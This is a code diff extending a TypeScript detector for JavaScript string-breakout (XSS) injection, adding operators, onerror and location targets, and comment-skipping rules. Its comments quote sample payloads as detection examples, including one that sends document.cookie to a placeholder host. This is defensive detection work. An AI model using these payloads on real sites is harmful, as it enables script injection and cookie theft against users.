@@ -11,16 +11,20 @@ import {
   COMMA,
   DOUBLE_QUOTE,
   EQUALS,
+  GREATER_THAN,
   isDigit,
   isHtmlSpace,
   isLetter,
   isScriptSpace,
   LEFT_PAREN,
+  LESS_THAN,
   MINUS,
   PLUS,
   RIGHT_PAREN,
   SEMICOLON,
   SINGLE_QUOTE,
+  SLASH,
+  startsWithWord,
 } from './chars.js';
 import { NameTable } from './names.js';
 import { checkComputedGlobalCall } from './script-idioms.js';
@@ -81,11 +85,65 @@ function isIdentifierPart(code: number): boolean {
   return isLetter(code) || isDigit(code) || code === 0x5f || code === 0x24;
 }
 
-/** Operators that can follow a closed string and start a new expression or statement. */
+/**
+ * Operators that can follow a closed string and start a new expression or statement: `; + - * , | &` and the
+ * arithmetic, bitwise and relational `/ % ^ < >` (`"/alert(1)//`, `'^alert(1)^'`).
+ */
 export function isJoiningOperator(c: number): boolean {
   return (
-    c === SEMICOLON || c === PLUS || c === MINUS || c === 0x2a || c === COMMA || c === 0x7c || c === AMPERSAND
+    c === SEMICOLON ||
+    c === PLUS ||
+    c === MINUS ||
+    c === 0x2a ||
+    c === COMMA ||
+    c === 0x7c ||
+    c === AMPERSAND ||
+    c === SLASH ||
+    c === 0x25 ||
+    c === 0x5e ||
+    c === LESS_THAN ||
+    c === GREATER_THAN
   );
+}
+
+/** The joining operators prose also writes between words, spaced: `/ % ^ < >`. */
+function isProseOperator(c: number): boolean {
+  return c === SLASH || c === 0x25 || c === 0x5e || c === LESS_THAN || c === GREATER_THAN;
+}
+
+/**
+ * Names whose assignment runs script or sends the page elsewhere once a string is broken out of: `onerror`
+ * (`';{onerror=alert}throw 1//`, the next error calls it) and the page's location (`";location='//x/?'+
+ * document.cookie//`).
+ */
+const ASSIGNED_TARGETS = new NameTable<true>(
+  [
+    'onerror',
+    'window.onerror',
+    'self.onerror',
+    'location',
+    'location.href',
+    'window.location',
+    'document.location',
+    'top.location',
+    'self.location',
+  ].map((name) => [name, true] as const),
+  true,
+);
+
+/** Where the `/* ... *\/` comments and spaces from `at` end, within {@link CALL_SPACES} units of each: `alert/**\/(1)`. */
+function skipComments(codes: Uint16Array, at: number, end: number): number {
+  let i = at;
+  for (;;) {
+    const from = i;
+    while (i < end && i - from <= CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
+    if (codes[i] !== SLASH || codes[i + 1] !== 0x2a || i + 1 >= end) return i;
+    const limit = Math.min(end, i + MAX_WORD_UNITS);
+    let close = i + 2;
+    while (close + 1 < limit && !(codes[close] === 0x2a && codes[close + 1] === SLASH)) close++;
+    if (close + 1 >= limit) return i;
+    i = close + 2;
+  }
 }
 
 /**
@@ -118,17 +176,37 @@ function readScriptBreakout(codes: Uint16Array, quote: number, end: number): str
     i++;
   while (i < end && isScriptSpace(codes[i] as number)) i++;
   breakoutRead = i;
-  if (i >= end || !isJoiningOperator(codes[i] as number)) return undefined;
-  const operator = codes[i];
-  i++;
-  if (codes[i] === operator) i++;
+  if (i >= end) return undefined;
+  const operator = codes[i] as number;
+  if (isJoiningOperator(operator)) {
+    i++;
+    if (codes[i] === operator) i++;
+  } else if ((operator === EQUALS || operator === 0x21) && codes[i + 1] === EQUALS) {
+    // `"==alert(1)`, `'!=alert(1)'`: a comparison (a lone `=` after a literal is no JavaScript).
+    i += codes[i + 2] === EQUALS ? 3 : 2;
+  } else if (isScriptSpace(codes[i - 1] as number) && startsWithWord(codes, i, end, 'instanceof')) {
+    i += 10;
+    if (i >= end || !isScriptSpace(codes[i] as number)) return undefined;
+  } else return undefined;
+  // The arithmetic and relational operators join prose too ("'50'% off (today)"): a breakout glues the name to them.
+  if (i < end && isScriptSpace(codes[i] as number) && isProseOperator(operator)) return undefined;
   while (i < end && isScriptSpace(codes[i] as number)) i++;
+  // A block after a `;` (`';{onerror=alert}throw 1//`), an object made with `new` (`";new Image().src=...`).
+  if (operator === SEMICOLON && codes[i] === 0x7b) i = skipComments(codes, i + 1, end);
+  if (startsWithWord(codes, i, end, 'new') && isScriptSpace(codes[i + 3] as number)) {
+    i += 3;
+    while (i < end && isScriptSpace(codes[i] as number)) i++;
+  }
+  // An array literal's method called: `'-[1].find(alert)-'`.
+  if (codes[i] === 0x5b) return arrayMethodCall(codes, i, end);
   const nameStart = i;
   const limit = Math.min(end, i + BREAKOUT_NAME_UNITS);
   while (i < limit && (isIdentifierPart(codes[i] as number) || codes[i] === 0x2e)) i++;
   breakoutRead = i;
   // The scratch buffers hold a previous value's units past `end`: the unit after the name is read only before it.
   if (i >= end || i === nameStart) return undefined;
+  if (ASSIGNED_TARGETS.get(codes, nameStart, i) !== undefined && assignsTarget(codes, i, end))
+    return 'js-breakout';
   // A sink given another name, then called by it: `");$=alert, $(1);//`. Not after `,`, `|` or `&`, which join
   // a URL's or a list's parts ("&type=alert"), and only when the new name is called.
   if (
@@ -138,14 +216,47 @@ function readScriptBreakout(codes: Uint16Array, quote: number, end: number): str
     callsLater(codes, nameStart, i, breakoutRead, end)
   )
     return 'js-breakout';
-  if (i - nameStart < 2 || !isLetter(codes[nameStart] as number)) return undefined;
+  const first = codes[nameStart] as number;
+  if (i - nameStart < 2 || !(isLetter(first) || first === 0x5f || first === 0x24)) return undefined;
   // A tagged template after a backtick that closed one: Markdown's inline code reads so (`-abc`, `--harmony`), a
   // flag between backticks. There the tag must be a sink (`-alert`1`-`); after a quote, any name.
   if (codes[i] === BACKTICK)
     return codes[quote] !== BACKTICK || SINKS.get(codes, lastSegment(codes, nameStart, i), i) !== undefined
       ? 'js-breakout'
       : undefined;
-  if (codes[i] !== LEFT_PAREN) return undefined;
+  // Comments and optional chaining before the call: `alert/**/(1)`, `alert?.(1)`.
+  i = skipComments(codes, i, end);
+  if (codes[i] === 0x3f && codes[i + 1] === 0x2e && codes[i + 2] === LEFT_PAREN) i += 2;
+  breakoutRead = i;
+  if (i >= end || codes[i] !== LEFT_PAREN) return undefined;
+  const reach = Math.min(end, i + MAX_CALL_UNITS);
+  breakoutRead = closingParen(codes, i, reach);
+  return breakoutRead < reach ? 'js-breakout' : undefined;
+}
+
+/**
+ * True when the name ending at `nameEnd`, one of {@link ASSIGNED_TARGETS}, is assigned: spaces, one `=` (not `==`
+ * or `=>`), and for `onerror` a sink (`onerror=alert`); the page's location takes any value.
+ */
+function assignsTarget(codes: Uint16Array, nameEnd: number, end: number): boolean {
+  if (startsWithWord(codes, nameEnd - 7, nameEnd, 'onerror')) return assignsSink(codes, nameEnd, end);
+  let i = nameEnd;
+  while (i < end && i - nameEnd <= CALL_SPACES && isScriptSpace(codes[i] as number)) i++;
+  breakoutRead = i;
+  return codes[i] === EQUALS && i + 1 < end && codes[i + 1] !== EQUALS && codes[i + 1] !== 0x3e;
+}
+
+/** After a breakout's operator, at `[`: an array literal whose method is called (`[1].find(alert)`), or undefined. */
+function arrayMethodCall(codes: Uint16Array, open: number, end: number): string | undefined {
+  const limit = Math.min(end, open + MAX_WORD_UNITS);
+  let i = open + 1;
+  while (i < limit && codes[i] !== 0x5d && codes[i] !== LEFT_PAREN) i++;
+  if (codes[i] !== 0x5d || codes[i + 1] !== 0x2e) return undefined;
+  i += 2;
+  const nameStart = i;
+  while (i < limit && isIdentifierPart(codes[i] as number)) i++;
+  breakoutRead = i;
+  if (i - nameStart < 2 || i >= end || codes[i] !== LEFT_PAREN) return undefined;
   const reach = Math.min(end, i + MAX_CALL_UNITS);
   breakoutRead = closingParen(codes, i, reach);
   return breakoutRead < reach ? 'js-breakout' : undefined;
